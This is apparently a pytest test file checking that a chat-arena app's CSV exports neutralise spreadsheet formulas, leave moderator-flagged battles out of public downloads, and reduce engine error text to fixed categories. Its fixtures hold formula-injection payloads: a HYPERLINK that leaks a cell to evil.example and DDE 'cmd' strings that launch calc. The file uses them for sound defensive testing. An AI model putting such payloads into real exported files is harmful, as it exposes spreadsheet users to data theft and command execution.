"""Issue 39, the export's part of "Trust", on SQLite and PostgreSQL (data written through ``db.actions``).

Probes of the old export: a cell ``=HYPERLINK("http://…"&A1)`` (or one starting with ``+``, ``-``, ``@``, a
tab or a carriage return) was written into the CSV as it was, so a spreadsheet ran it; flagged battles
were in every export; a remote engine's error text (the model's name, its endpoint, an org id) was
exported word for word in the messages' ``error`` column.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine, update

from commands.db import main
from db import actions
from db.export import ERROR_CATEGORIES, EXPORT_DEFAULTS, error_category, export_bytes
from db.export.read import count_selection, snapshot
from db.export.writers import CsvWriter, csv_cell
from db.models import Message
from settings import get_settings

SALT = "pepper-for-trust"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PLAIN = ("plain text", "a = b", "1-2", " =not at the start", "'already quoted")
SECRET_ERROR = ("RemoteError: HTTP 500 from server: model gpt-secret-7b at "
                "https://api.secret-engine.example/v1/chat/completions failed for org-abc123")
SECRET_WORDS = ("gpt-secret-7b", "secret-engine", "org-abc123", "https://", "RemoteError", "HTTP 500")


@dataclass
class Trust:
    public: str  # a voted battle: formula text, a failed reply with the secret error, a negative timing
    flagged: str  # a voted battle flagged by moderation


@pytest.fixture
def trust(arena: Any, engine: Engine) -> Trust:
    public = actions.open_battle(engine, mode="anonymous", scenario="calendar", contestant_a="m1",
                                 contestant_b="m2", system_prompt="=SYSTEM()")
    for side in ("a", "b"):
        for text in (*FORMULAS, *PLAIN):
            actions.append_message(engine, battle_id=public.id, side=side, kind="request", content=text)
    timed = actions.append_message(engine, battle_id=public.id, side="a", kind="reply", content="-5",
                                   ttft_ms=12.5, total_ms=80.0)
    actions.append_message(engine, battle_id=public.id, side="b", kind="reply", content="",
                           finish_reason="error", error=SECRET_ERROR)
    actions.record_correction(engine, battle_id=public.id, side="a", content="=1+1 is not a date")
    actions.append_message(engine, battle_id=public.id, side="a", kind="reply", content="@reply")
    actions.record_vote(engine, battle_id=public.id, choice="a")
    with engine.begin() as conn:  # a negative number as a number: only text is ever marked
        conn.execute(update(Message).where(Message.id == timed.id).values(ttft_ms=-1.5))
    flagged = arena.battle("m1", "m3")
    actions.record_vote(engine, battle_id=flagged.id, choice="b")
    actions.flag_battle(engine, battle_id=flagged.id, reason="abuse", admin_session="admin-1")
    return Trust(public=public.id, flagged=flagged.id)


PUBLIC = replace(EXPORT_DEFAULTS, exclude_flagged=True)


def _tables(blob: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return {name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
                for name in archive.namelist() if name.endswith(".csv")}


def _unzipped(blob: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist())


# --- CSV: formula cells ------------------------------------------------------------------------------------


def test_csv_cell_marks_formula_text_and_leaves_numbers_alone() -> None:
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    for text in PLAIN:
        assert csv_cell(text) == text
    assert csv_cell("-1.5") == "'-1.5", "text that looks like a negative number is still text"
    assert (csv_cell(-1.5), csv_cell(-3), csv_cell(0.0)) == (-1.5, -3, 0.0)
    assert (csv_cell(True), csv_cell(None), csv_cell(["=x"])) == ("true", "", '["=x"]')


def test_the_csv_writer_neutralises_text_cells_only() -> None:
    stream = io.BytesIO()
    writer = CsvWriter(stream, ("text", "number", "count"))
    writer.write(pa.table({"text": ["=1+1", "-x", "ok"], "number": [-1.5, 2.0, None],
                           "count": pa.array([-3, 0, 7], pa.int64())}))
    writer.close()
    rows = list(csv.reader(io.StringIO(stream.getvalue().decode())))
    assert rows == [["text", "number", "count"], ["'=1+1", "-1.5", "-3"], ["'-x", "2.0", "0"],
                    ["ok", "", "7"]]


def test_formula_cells_are_neutralised_in_the_zipped_tables(trust: Trust, engine: Engine) -> None:
    blob = export_bytes(engine, fmt="csv", salt=SALT, filters=PUBLIC)
    tables = _tables(blob.data)
    contents = [m["content"] for m in tables["messages"]]
    for text in FORMULAS:
        assert contents.count("'" + text) == 2 and text not in contents
    for text in PLAIN:
        assert contents.count(text) == 2
    assert "'-5" in contents and "'@reply" in contents
    assert {c["system_prompt"] for c in tables["conversations"]} == {"'=SYSTEM()"}
    timed = next(m for m in tables["messages"] if m["content"] == "'-5")
    assert (timed["ttft_ms"], timed["total_ms"]) == ("-1.5", "80.0"), "numbers are never marked"
    assert "OWASP" in blob.card and "leading `'`" in blob.card


def test_formula_cells_are_neutralised_in_the_csv_views(trust: Trust, engine: Engine) -> None:
    corrections = export_bytes(engine, fmt="csv", salt=SALT, view="corrections", filters=PUBLIC).data
    (row,) = list(csv.DictReader(io.StringIO(corrections.decode())))
    assert (row["faulty_reply"], row["feedback"], row["next_reply"]) == (
        "'-5", "'=1+1 is not a date", "'@reply")
    assert json.loads(row["context"])[0] == {"role": "system", "content": "=SYSTEM()"}, "JSON text, exact"
    battles = export_bytes(engine, fmt="csv", salt=SALT, view="battles", filters=PUBLIC).data
    (vote,) = list(csv.DictReader(io.StringIO(battles.decode())))
    assert (vote["model_a"], vote["model_b"], vote["winner"]) == ("m1", "m2", "a")


def test_jsonl_and_parquet_keep_the_text_exact(trust: Trust, engine: Engine) -> None:
    (record,) = [json.loads(line) for line in
                 export_bytes(engine, fmt="jsonl", salt=SALT, filters=PUBLIC).data.decode().splitlines()]
    contents = [m["content"] for s in record["sides"] for m in s["messages"]]
    assert all(contents.count(text) == 2 for text in FORMULAS) and "-5" in contents
    table = pq.read_table(io.BytesIO(export_bytes(engine, fmt="parquet", salt=SALT, filters=PUBLIC).data))
    side_a = table.to_pylist()[0]["sides"][0]
    assert [m["content"] for m in side_a["messages"]][:len(FORMULAS)] == list(FORMULAS)
    assert side_a["messages"][len(FORMULAS) + len(PLAIN)]["ttft_ms"] == -1.5


# --- flagged battles ---------------------------------------------------------------------------------------


def test_a_flagged_battle_leaves_the_public_export_and_stays_in_the_admins(trust: Trust,
                                                                            engine: Engine) -> None:
    for fmt in ("jsonl", "parquet", "csv"):
        for view in ("dialogues", "battles"):
            public = export_bytes(engine, fmt=fmt, salt=SALT, view=view, filters=PUBLIC)
            zipped = public.filename.endswith(".zip")
            data = _unzipped(public.data) if zipped else public.data.decode("latin-1")
            assert trust.flagged not in data and trust.public in data, (fmt, view)
    admin = export_bytes(engine, fmt="jsonl", salt=SALT)
    records = {json.loads(line)["battle_id"]: json.loads(line) for line in admin.data.decode().splitlines()}
    assert set(records) == {trust.public, trust.flagged}
    shown = records[trust.flagged]
    assert shown["status"] == "flagged" and shown["vote"]["counted"] is False
    assert "include_flagged=False" in export_bytes(engine, fmt="jsonl", salt=SALT, filters=PUBLIC).card
    assert "include_flagged" not in admin.card


def test_counts_match_what_the_public_download_holds(trust: Trust, engine: Engine) -> None:
    with snapshot(engine) as src:
        counts = count_selection(src, PUBLIC)
        everything = count_selection(src, EXPORT_DEFAULTS)
        only_corrected = count_selection(src, replace(EXPORT_DEFAULTS, exclude_flagged=True,
                                                      corrections_only=True))
    tables = _tables(export_bytes(engine, fmt="csv", salt=SALT, filters=PUBLIC).data)
    assert counts == {name: len(tables[name]) for name in ("battles", "messages", "corrections", "votes")}
    assert counts["battles"] == 1 and counts["votes"] == 1 and counts["corrections"] == 1
    assert everything["battles"] == 2 and everything["votes"] == 2
    assert only_corrected == counts


# --- error text ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "category"), [
    ("ModelBusyError: model 'gpt-secret' has 8 requests in line", "busy"),
    ("TimeoutError: waited 30 s in line", "timeout"),
    ("RuntimeError: model 'gpt-secret' was shut down", "unavailable"),
    ("ModelNotReadyError: model 'gpt-secret' is loading", "unavailable"),
    ("PromptTooLongError: the system prompt and last message need more than 512 tokens", "too_long"),
    ("HTTP 429 from server: slow down, org-abc123", "busy"),
    ("HTTP 401 from server: invalid key sk-abc for org-abc123", "refused"),
    ("HTTP 400 from server: This model's maximum context length is 4096 tokens", "too_long"),
    ("HTTP 500 from server: gpt-secret crashed", "engine_error"),
    ("remote returned HTTP 502: bad gateway at https://x.example", "engine_error"),
    ("HTTP 503 from server: overloaded", "unavailable"),
    ("no complete reply within the 60 s limit (last attempt: HTTP 500 from server: x)", "timeout"),
    ("no progress from the server for 30 s", "timeout"),
    ("no response from https://api.example/v1: timed out", "timeout"),
    ("cannot connect to https://api.example/v1: [Errno 111] Connection refused", "unavailable"),
    ("malformed event from server: b'{oops'", "engine_error"),
    ("stream broke: connection reset", "engine_error"),
    ("the server ended the reply: content_filter", "engine_error"),
    ("server error: {\"error\": {\"message\": \"org-abc123 quota\"}}", "engine_error"),
    ("cancelled", "cancelled"),
    ("timeout (error 1a2b3c4d)", "timeout"),
    ("engine_error (error 0f0f0f0f)", "engine_error"),
    ("KeyError: 'gpt-secret-7b'", "error"),
    ("generation failed", "error"),
    ("org-abc123", "error"),
    ("", "error"),
    ("   ", "error"),
    (None, None),
])
def test_error_category_is_one_of_a_closed_set(text: str | None, category: str | None) -> None:
    assert error_category(text) == category


def test_an_error_category_never_carries_the_texts_words() -> None:
    hostile = [SECRET_ERROR, "busy-model-9 (error deadbeef)", "x" * 10_000, "timeout\x00org-abc123",
               "HTTP 999 org-abc123", "ümlaut-модель 日本 error", "=HYPERLINK(\"http://e\")"]
    for text in hostile:
        category = error_category(text)
        assert category in ERROR_CATEGORIES
        assert category is not None and not any(w in category for w in ("org", "abc123", "model", "http"))


def test_an_engines_error_text_exports_only_its_category(trust: Trust, engine: Engine) -> None:
    jsonl = export_bytes(engine, fmt="jsonl", salt=SALT, filters=PUBLIC).data.decode()
    parquet = export_bytes(engine, fmt="parquet", salt=SALT, filters=PUBLIC).data
    tables = export_bytes(engine, fmt="csv", salt=SALT, filters=PUBLIC).data
    for word in SECRET_WORDS:
        assert word not in jsonl and word.encode() not in parquet and word not in _unzipped(tables), word
    (record,) = [json.loads(line) for line in jsonl.splitlines()]
    errors = [m["error"] for s in record["sides"] for m in s["messages"] if m["error"] is not None]
    assert errors == ["engine_error"]
    table = pq.read_table(io.BytesIO(parquet)).to_pylist()
    assert [m["error"] for s in table[0]["sides"] for m in s["messages"] if m["error"]] == ["engine_error"]
    assert [m["error"] for m in _tables(tables)["messages"] if m["error"]] == ["engine_error"]


# --- the operator's command line ---------------------------------------------------------------------------


@pytest.fixture
def cli_salt(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("ARENA_HASH_SALT", "cli-trust-salt")
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> dict[str, Any]:
    code = main(["export", "--no-progress", *argv])
    out, err = capsys.readouterr()
    assert code == 0, err
    return dict(json.loads(out))


def test_the_command_line_csv_neutralises_keeps_flagged_and_hides_error_text(
    trust: Trust, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], cli_salt: Any
) -> None:
    out = tmp_path / "tables"
    result = _cli(capsys, "--url", db_url, "--format", "csv", "--out", str(out))
    assert result["counts"]["battles"] == 2, "the operator's export keeps the flagged battle"
    messages = list(csv.DictReader((out / "messages.csv").open(encoding="utf-8", newline="")))
    contents = [m["content"] for m in messages]
    assert all(contents.count("'" + text) == 2 and text not in contents for text in FORMULAS)
    assert next(m for m in messages if m["content"] == "'-5")["ttft_ms"] == "-1.5"
    assert [m["error"] for m in messages if m["error"]] == ["engine_error"]
    battles = {b["id"]: b for b in csv.DictReader((out / "battles.csv").open(encoding="utf-8", newline=""))}
    assert battles[trust.flagged]["status"] == "flagged"
    exported = "".join(p.read_text(encoding="utf-8") for p in out.iterdir())
    assert not any(word in exported for word in SECRET_WORDS)
    assert "leading `'`" in (out / "README.md").read_text(encoding="utf-8")

    result = _cli(capsys, "--url", db_url, "--format", "csv", "--out", str(out), "--exclude-flagged")
    assert result["counts"]["battles"] == 1 and trust.flagged not in (out / "battles.csv").read_text()


def test_a_flagged_battle_closed_while_open_is_not_public(arena: Any, engine: Engine) -> None:
    """A battle flagged while still open (an abusive dialogue) is never public, delay or not."""
    live = arena.battle()
    actions.flag_battle(engine, battle_id=live.id, reason="abuse")
    cutoff = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=5)
    assert export_bytes(engine, fmt="jsonl", salt=SALT,
                        filters=replace(EXPORT_DEFAULTS, exclude_flagged=True,
                                        closed_before=cutoff)).data == b""
    assert live.id in export_bytes(engine, fmt="jsonl", salt=SALT).data.decode()
